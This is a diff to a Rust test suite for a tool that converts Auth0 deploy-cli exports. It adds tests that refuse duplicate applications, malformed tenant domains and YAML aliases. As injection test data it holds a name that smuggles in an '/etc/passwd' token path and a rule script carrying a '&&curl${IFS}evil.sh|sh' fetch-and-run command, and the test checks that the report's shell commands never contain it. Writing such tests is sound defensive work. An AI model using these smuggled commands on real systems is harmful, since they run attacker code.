@@ -248,17 +248,67 @@ fn bad_input_is_refused_by_file_and_field_and_nothing_is_written() {
         &["rules[3]", "`script`", "Sync-Metadata.js"],
     );
 
-    // Two applications with one name.
+    // Two applications with one name, where deploy-cli identifies them by name.
+    let dir = copy_of("directory", scratch.path());
+    std::fs::copy(
+        dir.join("clients/Web App.json"),
+        dir.join("clients/Web App copy.json"),
+    )
+    .unwrap();
+    refused(
+        &[dir],
+        &KEYWORDS,
+        &["two applications are named `Web App`", "Web App copy.json"],
+    );
+    // Two applications with one client ID, in the Management API's answer.
     let clients = scratch.path().join("dup.json");
     let mut list: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(fixture("management/clients.json")).unwrap())
             .unwrap();
-    let first = list[0].clone();
-    list.as_array_mut().unwrap().push(first);
+    let mut copy = list[0].clone();
+    copy["name"] = serde_json::json!("Web App again");
+    list.as_array_mut().unwrap().push(copy);
     std::fs::write(&clients, list.to_string()).unwrap();
     let mut args = KEYWORDS.to_vec();
     args.extend(["--tenant-domain", "example-tenant.eu.auth0.com"]);
-    refused(&[clients], &args, &["two applications are named `Web App`"]);
+    refused(
+        std::slice::from_ref(&clients),
+        &args,
+        &["dup.json[0]", "dup.json[4]", "same client ID"],
+    );
+    // --ids-from with two applications of one name cannot be read by name.
+    let mut ids_args = KEYWORDS.to_vec();
+    ids_args.extend(["--ids-from", clients.to_str().unwrap()]);
+    let mut same_name = list.clone();
+    same_name[4]["name"] = serde_json::json!("Web App");
+    same_name[4]["client_id"] = serde_json::json!("other-id");
+    std::fs::write(&clients, same_name.to_string()).unwrap();
+    refused(
+        &[fixture("yaml/tenant.yaml")],
+        &ids_args,
+        &["dup.json", "[0] and [4]", "`Web App`"],
+    );
+    // A tenant domain that is not a host name.
+    let mut bad_domain = KEYWORDS.to_vec();
+    bad_domain.extend(["--tenant-domain", "evil.example/x?y#"]);
+    refused(
+        &[
+            fixture("management/clients.json"),
+            fixture("management/rules.json"),
+        ],
+        &bad_domain,
+        &["tenant domain", "not a host name"],
+    );
+    // YAML aliases, which deploy-cli never writes (and which can expand without bound).
+    let yaml = copy_of("yaml", scratch.path());
+    let tenant = std::fs::read_to_string(yaml.join("tenant.yaml")).unwrap();
+    let aliased = tenant.replacen("tenant:\n", "tenant: &t\n", 1) + "again: *t\n";
+    std::fs::write(yaml.join("tenant.yaml"), aliased).unwrap();
+    refused(
+        &[yaml.join("tenant.yaml")],
+        &KEYWORDS,
+        &["tenant.yaml", "aliases"],
+    );
 
     // A placeholder without a value.
     refused(
@@ -346,7 +396,7 @@ fn an_existing_directory_is_never_overwritten_and_existing_keys_can_be_used() {
 fn text_from_the_export_cannot_add_configuration_or_reach_other_files() {
     let scratch = tempfile::tempdir().unwrap();
     // Names with line breaks end up in comments: they must stay comments.
-    let evil = "Web App\n[admin]\ntoken_file = \"/etc/passwd\"";
+    let evil = "Web App\n[admin]\ntoken_file = \"/etc/passwd\"\u{7f}";
     let mut clients: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(fixture("management/clients.json")).unwrap())
             .unwrap();
@@ -355,6 +405,10 @@ fn text_from_the_export_cannot_add_configuration_or_reach_other_files() {
         serde_json::from_str(&std::fs::read_to_string(fixture("management/rules.json")).unwrap())
             .unwrap();
     rules[0]["name"] = serde_json::json!("Set\n[server]\nlisten = \"0.0.0.0:1\"");
+    // A role-like text in a rule never reaches the shell commands of the report as it is.
+    rules[1]["script"] = serde_json::json!(
+        "function (u, c, cb) { var r = 'arn:aws:iam::123456789012:role/a&&curl${IFS}evil.sh|sh'; cb(null, u, c); }"
+    );
     let (clients_file, rules_file) = (
         scratch.path().join("clients.json"),
         scratch.path().join("rules.json"),
@@ -379,6 +433,9 @@ fn text_from_the_export_cannot_add_configuration_or_reach_other_files() {
         "{config}"
     );
     assert!(check_config(&out).contains("listen: 0.0.0.0:8080"));
+    let report = std::fs::read_to_string(out.join("MIGRATION.md")).unwrap();
+    assert!(!report.contains("&&curl"), "{report}");
+    assert!(report.contains("--role-name web-role"));
 
     // A rule script outside the export's directory is not read.
     let yaml = copy_of("yaml", scratch.path());
